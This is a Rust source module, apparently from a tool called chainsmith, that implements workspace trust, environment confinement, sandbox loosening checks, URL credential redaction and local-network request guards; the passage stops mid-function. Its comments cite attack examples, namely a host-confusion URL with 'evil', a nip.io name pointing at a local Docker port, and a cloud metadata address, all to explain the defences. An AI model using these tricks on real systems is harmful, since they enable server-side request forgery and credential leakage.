//! Workspace trust and the confinement of what a trusted workspace starts.
//!
//! A workspace names commands: MCP servers (`mcp = { command, args, env }` toolsets), command tools
//! (a native tool's `command` argv) and an interpreter (`[runtime] python` other than the default
//! `python3`). None of them runs until the user trusts the workspace. Trust is recorded per
//! workspace in the user's config folder (`$XDG_CONFIG_HOME/chainsmith/trust.json`, else
//! `~/.config/chainsmith/trust.json`), bound to the workspace's canonical root and to the exact
//! command lines it allowed, as direnv's `allow` is bound to the `.envrc` it read: a command added
//! or changed since is untrusted until the user trusts the workspace again. Trust can also be given
//! for one session without a record (`chainsmith --trust`, an editor that has its own workspace
//! trust and says `"trusted": true`).
//!
//! Trust covers more than commands: every setting by which a workspace would loosen the sandbox
//! (`[runtime] sandbox = "off"`, limits above the defaults, every `[runtime] writable` folder),
//! every secret of the user's environment it would send to an address it names (a toolset's `auth`
//! `value_env` to its base URL, `[llm] api_key_env` to `[llm] base_url`), and every toolset on this
//! machine or its private network its programs would call ([`is_local`]), is a line of the same
//! record, shown and trusted the same way. Such a line holds an unquoted `<`, which no local
//! command line does, so no line can pass for another.
//!
//! What runs gets a minimal environment ([`confine`]): the variables a program needs to find its
//! way (`PATH`, `HOME`, the locale …) and what the workspace's entry declares, never the rest of
//! chainsmith's environment, where the user's API keys live.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::config::{Config, LlmConfig, McpConfig, RuntimeConfig, SandboxMode, ToolsetSource};

/// The diagnostic code of a toolset (or interpreter, or command tool) that does not run because the
/// workspace is not trusted.
pub const UNTRUSTED: &str = "workspace-untrusted";

/// The format tag of trust.json.
const FORMAT: &str = "trust/1";

/// The variables of chainsmith's environment that the commands it starts inherit; everything else
/// (API keys, tokens, cloud credentials) stays behind. An entry's declared `env` is added on top.
pub const INHERITED_ENV: [&str; 9] =
    ["PATH", "HOME", "USER", "LOGNAME", "LANG", "LC_ALL", "LC_CTYPE", "TERM", "TMPDIR"];

/// Gives `command` the minimal environment: [`INHERITED_ENV`] (those that are set) and `declared`.
pub fn confine<'a>(
    command: &mut std::process::Command,
    declared: impl IntoIterator<Item = (&'a String, &'a String)>,
) -> &mut std::process::Command {
    command.env_clear();
    for name in INHERITED_ENV {
        if let Some(value) = std::env::var_os(name) {
            command.env(name, value);
        }
    }
    command.envs(declared)
}

/// One command a workspace would run: where it is declared, and its exact command line.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Command {
    /// Where the workspace declares it (`toolset `time` (mcp)`, `[runtime] python`,
    /// `tool `local.shout` (command)`).
    pub from: String,
    /// The command line, shell-quoted: the declared environment (`K=V`), the program, its arguments.
    pub command: String,
}

impl Command {
    pub fn mcp(toolset: &str, mcp: &McpConfig) -> Command {
        Command { from: format!("toolset `{toolset}` (mcp)"), command: mcp_line(mcp) }
    }

    /// The interpreter, when it is not the default one (the default is no workspace's choice).
    pub fn python(runtime: &RuntimeConfig) -> Option<Command> {
        (runtime.python != RuntimeConfig::default().python).then(|| Command {
            from: "[runtime] python".into(),
            command: argv_line(std::slice::from_ref(&runtime.python)),
        })
    }

    /// Where the interpreter the workspace chose would read in a home or temporary folder outside
    /// the workspace (a virtual environment's base in `~/.pyenv`, a `.venv` linked to another
    /// project), each a line keyed on where it leads: the run line alone names a path the
    /// workspace can re-link after trust.
    pub fn interpreter_reads(runtime: &RuntimeConfig, root: &Path) -> Vec<Command> {
        if runtime.python == RuntimeConfig::default().python {
            return Vec::new();
        }
        let Some(root) = crate::files::real_root(root) else { return Vec::new() };
        let Some(command) = workspace_interpreter(&runtime.python, &root) else {
            return Vec::new();
        };
        let mut lines: Vec<Command> = interpreter_places(&command)
            .into_iter()
            .filter(|(_, place)| place.needs_trust(&root))
            .map(|(_, place)| Command::interpreter_read(&place))
            .collect();
        lines.dedup();
        lines
    }

    /// Programs run by the workspace's interpreter read its Python's files at `place`.
    pub(crate) fn interpreter_read(place: &InterpreterPlace) -> Command {
        Command {
            from: "[runtime] python".into(),
            command: format!("{INTERPRETER_READ_PREFIX}{}>", place.path().display()),
        }
    }

    pub fn tool(id: &str, argv: &[String]) -> Command {
        Command { from: format!("tool `{id}` (command)"), command: argv_line(argv) }
    }

    /// `[runtime] sandbox = "off"`: programs would run unconfined. (`strict` only refuses more.)
    pub fn sandbox(runtime: &RuntimeConfig) -> Option<Command> {
        (runtime.sandbox == SandboxMode::Off)
            .then(|| Command { from: "[runtime] sandbox".into(), command: format!("{SANDBOX_PREFIX}off>") })
    }

    /// Every line `[runtime]` asks trust for: the interpreter and where it reads outside the
    /// workspace, the sandbox off, raised limits, writable folders that loosen the sandbox,
    /// readable paths outside the workspace. One list for the check, the record and the run.
    pub fn runtime(runtime: &RuntimeConfig, root: &Path) -> Vec<Command> {
        let mut lines: Vec<Command> = Command::python(runtime).into_iter().collect();
        lines.extend(Command::interpreter_reads(runtime, root));
        lines.extend(Command::sandbox(runtime));
        lines.extend(Command::limits(runtime));
        lines.extend(Command::writable(runtime, root));
        lines.extend(Command::readable(runtime, root));
        lines
    }

    /// A toolset's `max_mb` above the default size of a protocol file read: parsed, a file that
    /// large can take gigabytes of memory (it may hold more values too: 16,384 a MiB), and
    /// `check`, `tools` and the editor read the workspace's files before any trust. Keyed on the
    /// toolset too: trusting one toolset's large files lets no other toolset read as much.
    pub fn max_read(toolset: &crate::config::ToolsetConfig) -> Option<Command> {
        (toolset.max_bytes > crate::files::MAX_READ).then(|| Command {
            from: format!("toolset `{}` (max_mb)", toolset.name),
            command: format!("{READ_LIMIT_PREFIX}{} MiB> for toolset `{}`", toolset.max_bytes >> 20, toolset.name),
        })
    }

    /// The sandbox's limits a workspace raises above the defaults (`max_memory_mb`,
    /// `max_processes`, `max_scratch_mb`, `max_response_mb`): a folder could otherwise give its
    /// own chain room to take the machine's memory or process table. Lowering them asks nothing.
    pub fn limits(runtime: &RuntimeConfig) -> Option<Command> {
        let default = RuntimeConfig::default();
        let raised: Vec<String> = [
            ("max_memory_mb", runtime.max_memory_mb, default.max_memory_mb),
            ("max_processes", runtime.max_processes, default.max_processes),
            ("max_scratch_mb", runtime.max_scratch_mb, default.max_scratch_mb),
            ("max_response_mb", runtime.max_response_mb, default.max_response_mb),
        ]
        .into_iter()
        .filter(|(_, value, default)| value > default)
        .map(|(key, value, _)| format!("{key} = {value}"))
        .collect();
        (!raised.is_empty()).then(|| Command {
            from: "[runtime] limits".into(),
            command: format!("{LIMITS_PREFIX}{}>", raised.join(", ")),
        })
    }

    /// The `[runtime] writable` folders, each a loosening of the sandbox keyed on where it leads
    /// (its canonical path where it exists, so `..` and links count): one outside the workspace,
    /// the workspace itself, or one inside it — where a chain could make a `.git` whose hooks or
    /// `core.fsmonitor` git runs outside the sandbox, or settings an editor or chainsmith reads.
    pub fn writable(runtime: &RuntimeConfig, root: &Path) -> Vec<Command> {
        writable_places(runtime, root).into_iter().map(|(_, line)| line).collect()
    }

    /// The `[runtime] readable` paths outside the workspace, each keyed on where it leads (`..` and
    /// links count): what a chain reads there it can send to the workspace's toolsets. One inside
    /// asks nothing: runs read the workspace already.
    pub fn readable(runtime: &RuntimeConfig, root: &Path) -> Vec<Command> {
        readable_places(runtime, root).into_iter().filter_map(|(_, line)| line).collect()
    }

    /// A secret of the user's environment (`$var`) that a request to `url` would carry, as `how`
    /// (`header X-Api-Key`, `query parameter api_key`, `body member toolbench_key`); `None` when
    /// the variable is not set, since nothing would be sent.
    pub fn secret(from: String, var: &str, how: &str, url: &str) -> Option<Command> {
        std::env::var_os(var).filter(|v| !v.is_empty())?;
        Some(Command { from, command: format!("{SEND_PREFIX}${var} to <{}> as {how}", redact_url(url)) })
    }

    /// The LLM's key sent to an address the workspace chose: `[llm] base_url` or `api_key_env`
    /// other than the defaults (the default is no workspace's choice).
    pub fn llm(llm: &LlmConfig) -> Option<Command> {
        let default = LlmConfig::default();
        if llm.base_url == default.base_url && llm.api_key_env == default.api_key_env {
            return None;
        }
        Command::secret("[llm]".into(), &llm.api_key_env, "header Authorization", &llm.base_url)
    }

    /// Programs' requests to `url`'s origin, on this machine or its private network
    /// ([`is_local`]): a toolset's base URL there, or where a request goes.
    pub fn reach(from: String, url: &reqwest::Url) -> Command {
        Command { from, command: format!("{REACH_PREFIX}{}>", url.origin().ascii_serialization()) }
    }

    /// A file outside the workspace that its protocols name (a toolset's file, a `$ref`, a link
    /// under `protocols/`), by its real path: what it holds would enter the catalog, and from
    /// there the prompts sent to a model's server the workspace may have chosen.
    pub fn read_outside(from: String, real_path: &Path) -> Command {
        Command { from, command: format!("{READ_PREFIX}{}>", real_path.display()) }
    }

    /// The model's server the workspace chose (`[llm] base_url` other than the default) on this
    /// machine or its private network: chainsmith would post the conversation to a service there.
    pub fn llm_reach(llm: &LlmConfig) -> Option<Command> {
        if llm.base_url == LlmConfig::default().base_url {
            return None;
        }
        let url = reqwest::Url::parse(llm.base_url.trim()).ok()?;
        is_local(&url).then(|| Command::reach("[llm] base_url".into(), &url))
    }

    /// What the line would do, in words: `run `cmd``, `send $KEY to http://… as header X`.
    fn action(&self) -> String {
        let line = &self.command;
        if let Some(rest) = line.strip_prefix(SEND_PREFIX) {
            format!("send {}", rest.replacen('<', "", 1).replacen('>', "", 1))
        } else if let Some(origin) = line.strip_prefix(REACH_PREFIX) {
            format!(
                "call {}, on this machine or its private network, whose services trust what reaches them",
                origin.trim_end_matches('>')
            )
        } else if let Some(path) = line.strip_prefix(READ_PREFIX) {
            format!(
                "read {}, outside the workspace, into its protocols (whence it can reach a model's server)",
                path.trim_end_matches('>')
            )
        } else if let Some(path) = line.strip_prefix(PROGRAM_READ_PREFIX) {
            format!(
                "let programs read {}, outside the workspace (what they read they can send to its toolsets)",
                path.trim_end_matches('>')
            )
        } else if let Some(path) = line.strip_prefix(INTERPRETER_READ_PREFIX) {
            format!(
                "let programs read the interpreter's files at {}, outside the workspace",
                path.trim_end_matches('>')
            )
        } else if let Some(rest) = line.strip_prefix(READ_LIMIT_PREFIX) {
            format!(
                "read its protocol files up to {} (the default is {} MiB; parsed, a file that large can take many times its size in memory)",
                rest.split_once('>').map_or(rest, |(size, _)| size),
                crate::files::MAX_READ >> 20
            )
        } else if line.starts_with(SANDBOX_PREFIX) {
            "run programs with the sandbox off".into()
        } else if let Some(raised) = line.strip_prefix(LIMITS_PREFIX) {
            format!("raise the sandbox's limits above the defaults ({})", raised.trim_end_matches('>'))
        } else if let Some(rest) = line.strip_prefix(WRITE_PREFIX) {
            if let Some(folder) = rest.strip_suffix(WHOLE_WORKSPACE) {
                format!(
                    "let programs write anywhere in the workspace {}, its .git, .chainsmith and chainsmith.toml included (git, editors and chainsmith act on them outside the sandbox)",
                    folder.trim_end_matches('>')
                )
            } else if let Some(folder) = rest.strip_suffix(INSIDE) {
                format!(
                    "let programs write beneath {}, inside the workspace (where a program could make a .git whose hooks git runs outside the sandbox)",
                    folder.trim_end_matches('>')
                )
            } else {
                format!("let programs write beneath {}, outside the workspace", rest.trim_end_matches('>'))
            }
        } else if line.starts_with(REMOTE_PREFIX) {
            format!("send `{line}`")
        } else {
            format!("run `{line}`")
        }
    }
}

/// Where the `[runtime] readable` paths lead: relative to the workspace `root`, `~/…` to the
/// home folder, `..` and links followed.
pub fn readable_paths(runtime: &RuntimeConfig, root: &Path) -> Vec<PathBuf> {
    let home = std::env::var_os("HOME").map(PathBuf::from);
    runtime
        .readable
        .iter()
        .map(|path| {
            let in_home = if path == "~" { Some("") } else { path.strip_prefix("~/") };
            match (in_home, &home) {
                (Some(rest), Some(home)) => home.join(rest),
                _ => root.join(path),
            }
        })
        .map(|path| resolved_path(&path))
        .collect()
}

/// Where the `[runtime] writable` folders lead, resolved once, each with the line that trusts
/// writing there. A run grants the very places it judged by these lines: resolved again later, a
/// folder re-linked meanwhile would lead where no one trusted.
pub fn writable_places(runtime: &RuntimeConfig, root: &Path) -> Vec<(PathBuf, Command)> {
    let Some(root) = crate::files::real_root(root) else { return Vec::new() };
    runtime
        .writable
        .iter()
        .map(|folder| {
            let resolved = resolved_path(&root.join(folder));
            let place = if !resolved.starts_with(&root) {
                ""
            } else if resolved == root {
                WHOLE_WORKSPACE
            } else {
                INSIDE
            };
            let line = Command {
                from: "[runtime] writable".into(),
                command: format!("{WRITE_PREFIX}{}>{place}", resolved.display()),
            };
            (resolved, line)
        })
        .collect()
}

/// Where the `[runtime] readable` paths lead, resolved once, each with the line that trusts
/// reading there (none inside the workspace, which runs read already).
pub fn readable_places(runtime: &RuntimeConfig, root: &Path) -> Vec<(PathBuf, Option<Command>)> {
    let Some(root) = crate::files::real_root(root) else { return Vec::new() };
    readable_paths(runtime, &root)
        .into_iter()
        .map(|resolved| {
            let line = (!resolved.starts_with(&root)).then(|| Command {
                from: "[runtime] readable".into(),
                command: format!("{PROGRAM_READ_PREFIX}{}>", resolved.display()),
            });
            (resolved, line)
        })
        .collect()
}

/// How the lines of secrets, sandbox loosening and writable folders begin: each holds an unquoted
/// `<`, which a local command line never does.
const SEND_PREFIX: &str = "send ";
const SANDBOX_PREFIX: &str = "sandbox <";
const WRITE_PREFIX: &str = "write <";
const LIMITS_PREFIX: &str = "limits <";
const REACH_PREFIX: &str = "call <";
const READ_PREFIX: &str = "read <";
const PROGRAM_READ_PREFIX: &str = "programs read <";
const READ_LIMIT_PREFIX: &str = "read protocol files up to <";
const INTERPRETER_READ_PREFIX: &str = "python reads <";
/// What follows a writable folder's `>` when it is the workspace root itself, or a folder inside.
const WHOLE_WORKSPACE: &str = " the whole workspace";
const INSIDE: &str = " inside the workspace";

/// `path` with `.` and `..` taken away and links followed as far as the path exists.
/// A link that does not resolve (a `/proc/PID/fd/N` link to another process' deleted file, which
/// still opens) counts as where it points, as far as the kernel would follow links (a loop of
/// them ends there).
pub(crate) fn resolved_path(path: &Path) -> PathBuf {
    resolved_within(path, MAX_LINKS_FOLLOWED)
}

/// How many links the kernel follows in one path (`ELOOP` past it).
const MAX_LINKS_FOLLOWED: usize = 40;

fn resolved_within(path: &Path, links_left: usize) -> PathBuf {
    let mut out = PathBuf::new();
    for component in path.components() {
        match component {
            std::path::Component::ParentDir => {
                out.pop();
            }
            std::path::Component::CurDir => {}
            other => {
                out.push(other);
                if let Ok(real) = std::fs::canonicalize(&out) {
                    out = real;
                } else if links_left > 0
                    && let Ok(target) = std::fs::read_link(&out)
                {
                    out.pop();
                    out = resolved_within(&out.join(target), links_left - 1);
                }
            }
        }
    }
    out
}

/// `url` as the HTTP client reads it, with the credentials it carries (`https://user:pass@host`)
/// replaced by `***`, so no warning, trust line, record or error repeats them. Shown as parsed, the
/// host is the one a request goes to: `https://evil\@api.github.com` is a request to `evil` (the
/// client reads `\` as `/`), and a trust line keyed on that text changes with the host. Text that
/// is no URL comes back with everything before an `@` in what looks like its authority hidden.
pub fn redact_url(url: &str) -> String {
    if let Ok(mut parsed) = reqwest::Url::parse(url.trim())
        && parsed.has_host()
    {
        let had_credentials = !parsed.username().is_empty() || parsed.password().is_some();
        let _ = parsed.set_username("");
        let _ = parsed.set_password(None);
        let mut shown = parsed.to_string();
        // The parser writes an empty path as `/`: kept as written, a plain base URL reads the same.
        if parsed.path() == "/" && parsed.query().is_none() && parsed.fragment().is_none() && !url.trim().ends_with('/')
        {
            shown.pop();
        }
        if had_credentials && let Some(at) = shown.find("://") {
            shown.insert_str(at + 3, "***@");
        }
        return shown;
    }
    let Some(scheme_end) = url.find("://") else { return url.to_string() };
    let authority_start = scheme_end + 3;
    let authority_end = url[authority_start..].find(['/', '?', '#']).map_or(url.len(), |i| authority_start + i);
    match url[authority_start..authority_end].rfind('@') {
        Some(at) => format!("{}***{}", &url[..authority_start], &url[authority_start + at..]),
        None => url.to_string(),
    }
}

/// Whether `url` names this machine or its private network, by address ([`is_local_ip`]) or as
/// `localhost`: a service there (a container daemon's port, a database's admin API, a cloud's
/// metadata at 169.254.169.254) trusts what reaches it, so a workspace's programs reach it only
/// when the workspace is trusted to ([`Command::reach`]). A name that resolves there is the HTTP
/// client's resolver's to hold back.
pub fn is_local(url: &reqwest::Url) -> bool {
    let Some(host) = url.host_str() else { return false };
    match host.trim_start_matches('[').trim_end_matches(']').parse::<std::net::IpAddr>() {
        Ok(ip) => is_local_ip(ip),
        Err(_) => is_local_name(host),
    }
}

/// `url`'s host when it is a name (not an address), lower-cased and without a trailing dot, as a
/// resolver is asked for it.
pub fn host_name(url: &reqwest::Url) -> Option<String> {
    let host = url.host_str()?;
    let bare = host.trim_start_matches('[').trim_end_matches(']');
    if bare.parse::<std::net::IpAddr>().is_ok() {
        return None;
    }
    Some(host.trim_end_matches('.').to_ascii_lowercase())
}

/// Whether the name `host` resolves, now, to an address on this machine or its private network
/// (the system's resolver, as the host's HTTP client asks it).
pub fn resolves_here(host: &str) -> bool {
    local_address_of(host).is_some()
}

/// The first address on this machine or its private network that the name `host` resolves to now.
pub fn local_address_of(host: &str) -> Option<std::net::IpAddr> {
    lookup(host).ok()?.into_iter().find(|ip| is_local_ip(*ip))
}

/// The addresses the name `host` resolves to now, as the system says.
fn lookup(host: &str) -> std::io::Result<Vec<std::net::IpAddr>> {
    use std::net::ToSocketAddrs;
    Ok((host, 0).to_socket_addrs()?.map(|a| a.ip()).collect())
}

/// Whether a workspace's programs may call `host` only once the workspace is trusted to (a
/// `call <…>` line): it resolves to this machine or its private network, or, behind a proxy, it
/// does not resolve here at all — the proxy resolves it, where it may name the proxy's own
/// network (`jenkins.corp`) or the proxy's machine.
pub fn reached_only_with_trust(host: &str) -> bool {
    match lookup(host) {
        Ok(addresses) => addresses.into_iter().any(is_local_ip),
        Err(_) => proxied(),
    }
}

/// Whether requests go through a proxy the environment names (by name or by address), which then
/// resolves their names past [`Resolver`].
pub fn proxied() -> bool {
    PROXY_VARIABLES.iter().any(|var| std::env::var(var).is_ok_and(|value| !value.trim().is_empty()))
}

/// The variables reqwest takes its proxies from.
const PROXY_VARIABLES: [&str; 6] = ["http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"];

/// Why a request to `url` may not go, judged by its host name (an address is judged by
/// [`is_local`]; `from` says whose request it is): a name recorded as resolving here is held to
/// the origins recorded with it, and behind a proxy, which resolves names itself, a name that
/// resolves here now, or does not resolve here at all, is refused unless the workspace was
/// trusted to call it. `local_names` is
/// `trust`'s [`Trust::local_names`], which a caller asking per request keeps. `None`: it may go.
pub fn name_refusal(
    trust: &Trust,
    local_names: Option<&BTreeSet<String>>,
    url: &reqwest::Url,
    from: &str,
) -> Option<String> {
    let name = host_name(url).filter(|name| !is_local_name(name))?;
    if local_names?.contains(&name) {
        let line = Command::reach(from.to_string(), url);
        return (!trust.allows(&line.command)).then(|| trust.refusal(&line));
    }
    if proxied() {
        let recorded = matches!(trust, Trust::Recorded(_));
        return match lookup(&name) {
            Ok(addresses) => {
                addresses.into_iter().find(|ip| is_local_ip(*ip)).map(|ip| local_name_refusal(&name, ip, recorded))
            }
            Err(_) => Some(unresolved_name_refusal(&name, recorded)),
        };
    }
    None
}

/// Why a name this machine cannot resolve is not called behind a proxy (see
/// [`reached_only_with_trust`]).
fn unresolved_name_refusal(host: &str, recorded: bool) -> String {
    let what = format!(
        "{host} does not resolve on this machine, so only the proxy knows where it leads (its own network, its own machine)"
    );
    if recorded {
        format!(
            "{what}, and the workspace was not trusted to call it; if that is meant, trust the workspace again (`chainsmith trust` looks its names up)"
        )
    } else {
        format!(
            "{what}: an untrusted workspace's programs do not call it; once you have read the workspace, trust it (`chainsmith trust`, `--trust`, or \"Trust this workspace\" in the editor)"
        )
    }
}

/// `localhost` and the names beneath it, which resolve to this machine (RFC 6761).
pub fn is_local_name(name: &str) -> bool {
    let name = name.trim_end_matches('.').to_ascii_lowercase();
    name == "localhost" || name.ends_with(".localhost")
}

/// Loopback, private (RFC 1918, IPv6 unique local), link-local, shared (100.64.0.0/10, where
/// carrier NAT and mesh VPNs live), unspecified and `0.0.0.0/8` addresses, also written as IPv6,
/// and every address of this machine's own interfaces: a service listening on all of them (a
/// database, a container daemon on `0.0.0.0`) answers at the machine's public address too.
pub fn is_local_ip(ip: std::net::IpAddr) -> bool {
    in_local_range(ip) || {
        let own = own_addresses();
        own.contains(&ip) || embedded_v4(ip).is_some_and(|v4| own.contains(&v4.into()))
    }
}

/// The IPv4 address an IPv6 one carries: mapped (`::ffff:a.b.c.d`), compatible (`::a.b.c.d`) or
/// NAT64 (`64:ff9b::a.b.c.d`), each of which reaches that IPv4 address.
fn embedded_v4(ip: std::net::IpAddr) -> Option<std::net::Ipv4Addr> {
    let std::net::IpAddr::V6(ip) = ip else { return None };
    let s = ip.segments();
    let tail = || std::net::Ipv4Addr::new((s[6] >> 8) as u8, s[6] as u8, (s[7] >> 8) as u8, s[7] as u8);
    if let Some(mapped) = ip.to_ipv4_mapped() {
        Some(mapped)
    } else if s[..6] == [0; 6] || s[..6] == [0x64, 0xff9b, 0, 0, 0, 0] {
        Some(tail())
    } else {
        None
    }
}

/// The addresses of this machine's interfaces, as the kernel lists them now.
fn own_addresses() -> Vec<std::net::IpAddr> {
    let mut found = Vec::new();
    let mut list: *mut libc::ifaddrs = std::ptr::null_mut();
    // SAFETY: getifaddrs fills `list` with a linked list this function frees below; each entry's
    // address, when present, points at a sockaddr of the family it names.
    unsafe {
        if libc::getifaddrs(&mut list) != 0 {
            return found;
        }
        let mut entry = list;
        while !entry.is_null() {
            let address = (*entry).ifa_addr;
            if !address.is_null() {
                match i32::from((*address).sa_family) {
                    libc::AF_INET => {
                        let v4 = &*(address as *const libc::sockaddr_in);
                        found.push(std::net::Ipv4Addr::from(u32::from_be(v4.sin_addr.s_addr)).into());
                    }
                    libc::AF_INET6 => {
                        let v6 = &*(address as *const libc::sockaddr_in6);
                        found.push(std::net::Ipv6Addr::from(v6.sin6_addr.s6_addr).into());
                    }
                    _ => {}
                }
            }
            entry = (*entry).ifa_next;
        }
        libc::freeifaddrs(list);
    }
    found
}

/// The address classes of [`is_local_ip`].
fn in_local_range(ip: std::net::IpAddr) -> bool {
    use std::net::{IpAddr, Ipv4Addr};
    let v4 = |ip: Ipv4Addr| {
        let [a, b, ..] = ip.octets();
        ip.is_loopback()
            || ip.is_private()
            || ip.is_link_local()
            || ip.is_unspecified()
            || ip.is_broadcast()
            || a == 0
            || (a == 100 && (b & 0xc0) == 64)
    };
    match ip {
        IpAddr::V4(ip) => v4(ip),
        IpAddr::V6(ip) => {
            let s = ip.segments();
            ip.is_loopback()
                || ip.is_unspecified()
                || (s[0] & 0xfe00) == 0xfc00
                || (s[0] & 0xffc0) == 0xfe80
                || embedded_v4(ip.into()).is_some_and(v4)
        }
    }
}

/// The system's resolver (as reqwest's own, on a blocking thread), holding back the addresses on
/// this machine or its private network a name resolves to, unless the workspace may reach that
/// name there ([`Trust::local_names`]): an untrusted folder's
/// `http://127.0.0.1.nip.io:2375` reaches no container daemon. `localhost`'s names are judged as
/// addresses are (by `runtime::http::send`'s `may_reach`), and the proxies the environment names are the
/// user's own; behind a proxy, the proxy resolves the names, and the host asks the system itself
/// (`Host::may_reach`).
pub struct Resolver {
    /// `None`: every name.
    local_names: Option<std::collections::BTreeSet<String>>,
    proxies: std::collections::BTreeSet<String>,
    /// Whether the workspace's trust is recorded (so a name resolving here now did not then).
    recorded: bool,
}

impl Resolver {
    pub fn for_trust(trust: &Trust) -> Resolver {
        Resolver {
            local_names: trust.local_names(),
            proxies: proxy_hosts(),
            recorded: matches!(trust, Trust::Recorded(_)),
        }
    }
}

/// The host names of the proxies the environment names (`HTTPS_PROXY`, `http_proxy`, `ALL_PROXY`
/// …), which reqwest sends through.
pub fn proxy_hosts() -> std::collections::BTreeSet<String> {
    PROXY_VARIABLES
        .iter()
        .filter_map(|var| std::env::var(var).ok())
        .filter(|value| !value.trim().is_empty())
        .filter_map(|value| {
            let value = value.trim();
            let url = if value.contains("://") { value.to_string() } else { format!("http://{value}") };
            reqwest::Url::parse(&url).ok().and_then(|url| host_name(&url))
        })
        .collect()
}

impl reqwest::dns::Resolve for Resolver {
    fn resolve(&self, name: reqwest::dns::Name) -> reqwest::dns::Resolving {
        let host = name.as_str().trim_end_matches('.').to_ascii_lowercase();
        let private_names = is_local_name(&host)
            || self.proxies.contains(&host)
            || self.local_names.as_ref().is_none_or(|names| names.contains(&host));
        let recorded = self.recorded;
        Box::pin(async move {
            let asked = host.clone();
            let found = tokio::task::spawn_blocking(move || lookup(&asked)).await??;
            // Each address judged once (judging one lists the machine's interfaces).
            let judged: Vec<_> =
                found.into_iter().map(|ip| (std::net::SocketAddr::new(ip, 0), is_local_ip(ip))).collect();
            let local = judged.iter().find(|(_, local)| *local).map(|(a, _)| a.ip());
            let kept: Vec<_> =
                judged.into_iter().filter(|(_, local)| private_names || !local).map(|(a, _)| a).collect();
            if let Some(local) = local
                && kept.is_empty()
            {
                return Err(local_name_refusal(&host, local, recorded).into());
            }
            Ok(Box::new(kept.into_iter()) as reqwest::dns::Addrs)
        })
    }
}

/// Why a request to the name `host`, which resolves to `ip` on this machine or its private
/// network, is not sent; `recorded`: the workspace's trust is recorded, from before the name
/// resolved here (or past the names `chainsmith trust` looks up).
pub fn local_name_refusal(host: &str, ip: std::net::IpAddr, recorded: bool) -> String {
    if recorded {
        format!(
            "{host} resolves to {ip}, on this machine or its private network, which it did not when the workspace was trusted, so it is not called; if that is meant, trust the workspace again (`chainsmith trust` looks its names up)"
        )
    } else {
        format!(
            "{host} resolves to {ip}, on this machine or its private network, which an untrusted workspace's programs do not reach; once you have read the workspace, trust it (`chainsmith trust`, `--trust`, or \"Trust this workspace\" in the editor)"
        )
    }
}

/// What chainsmith.toml (and the editor settings merged into it) asks trust for: MCP servers, a
/// non-default interpreter, the sandbox off, writable folders that loosen it and the LLM's
/// key sent where the workspace says. Command tools and toolsets' auth live partly in protocol
/// files; the toolset layer adds them.
pub fn config_commands(config: &Config) -> Vec<Command> {
    let mut out: Vec<Command> = config
        .toolsets
        .iter()
        .filter_map(|ts| match &ts.source {
            ToolsetSource::Mcp(mcp) => Some(Command::mcp(&ts.name, mcp)),
            _ => None,
        })
        .collect();
    out.extend(config.toolsets.iter().filter_map(Command::max_read));
    out.extend(Command::runtime(&config.runtime, &config.root));
    out.extend(Command::llm_reach(&config.llm));
    out.extend(Command::llm(&config.llm));
    out
}

/// An MCP server's command line: its declared environment, command and arguments.
pub fn mcp_line(mcp: &McpConfig) -> String {
    if let Some(url) = &mcp.url {
        // A remote server runs nothing here, but opening the folder would send it the headers the
        // workspace names (a variable's secret to an address of its choosing): trusted the same
        // way, shown as the request. The bracket keeps the line apart from every local command
        // line (where an unquoted word never holds `<`).
        let mut words = vec![format!("{REMOTE_PREFIX}{}>", quote(&redact_url(url)))];
        for (name, value) in &mcp.headers {
            let value = match value {
                crate::config::HeaderValueConfig::Literal(v) => v.clone(),
                crate::config::HeaderValueConfig::FromEnv(from) => format!("{}${}", from.prefix, from.value_env),
            };
            words.push("-H".into());
            words.push(quote(&format!("{name}: {value}")));
        }
        return words.join(" ");
    }
    let mut words: Vec<String> = mcp.env.iter().map(|(k, v)| format!("{}={}", quote_name(k), quote(v))).collect();
    words.push(quote_program(&mcp.command));
    words.extend(mcp.args.iter().map(|a| quote(a)));
    words.join(" ")
}

/// How a remote server's line begins (`POST <url> -H …`).
const REMOTE_PREFIX: &str = "POST <";

/// An argv's command line.
pub fn argv_line(argv: &[String]) -> String {
    let mut words = Vec::with_capacity(argv.len());
    if let Some((program, args)) = argv.split_first() {
        words.push(quote_program(program));
        words.extend(args.iter().map(|a| quote(a)));
    }
    words.join(" ")
}

/// A word as a POSIX shell reads it back: bare when it is made of safe characters, else in single
/// quotes. Lines are identities, so the rendering is unambiguous: an environment assignment is the
/// only word with an `=` outside quotes before the program (a program containing `=` is quoted).
fn quote(word: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+,=".contains(c);
    quote_unless(word, safe)
}

fn quote_program(word: &str) -> String {
    quote_unless(word, |c| c != '=' && (c.is_ascii_alphanumeric() || "-_./:@%+,".contains(c)))
}

fn quote_name(word: &str) -> String {
    quote_unless(word, |c| c.is_ascii_alphanumeric() || c == '_')
}

fn quote_unless(word: &str, safe: impl Fn(char) -> bool) -> String {
    if !word.is_empty() && word.chars().all(safe) {
        word.to_string()
    } else if word.chars().any(crate::text::is_unprintable) {
        // Bash's `$'…'`, so a line never holds a raw control character: an escape sequence in a
        // workspace's argument could otherwise erase the line a terminal shows and print another.
        let mut quoted = String::from("$'");
        for c in word.chars() {
            match c {
                '\\' => quoted.push_str("\\\\"),
                '\'' => quoted.push_str("\\'"),
                c if crate::text::is_unprintable(c) && (c as u32) < 0x80 => {
                    quoted.push_str(&format!("\\x{:02x}", c as u32))
                }
                c if crate::text::is_unprintable(c) => quoted.push_str(&format!("\\u{:04x}", c as u32)),
                c => quoted.push(c),
            }
        }
        quoted.push('\'');
        quoted
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// What this session may run of a workspace.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Trust {
    /// Nothing the workspace names runs.
    #[default]
    Untrusted,
    /// Everything runs, for this session only (`--trust`, an editor's own trust); nothing recorded.
    Session,
    /// The command lines the user trusted this workspace with (`chainsmith trust`).
    Recorded(BTreeSet<String>),
}

impl Trust {
    /// The trust of `config`'s workspace: the session's when the CLI or the editor gives it, else
    /// what the user recorded for its canonical root (nothing when the record cannot be read).
    pub fn of(config: &Config) -> Trust {
        if config.trusted {
            return Trust::Session;
        }
        let Ok(root) = canonical_root(&config.root) else { return Trust::Untrusted };
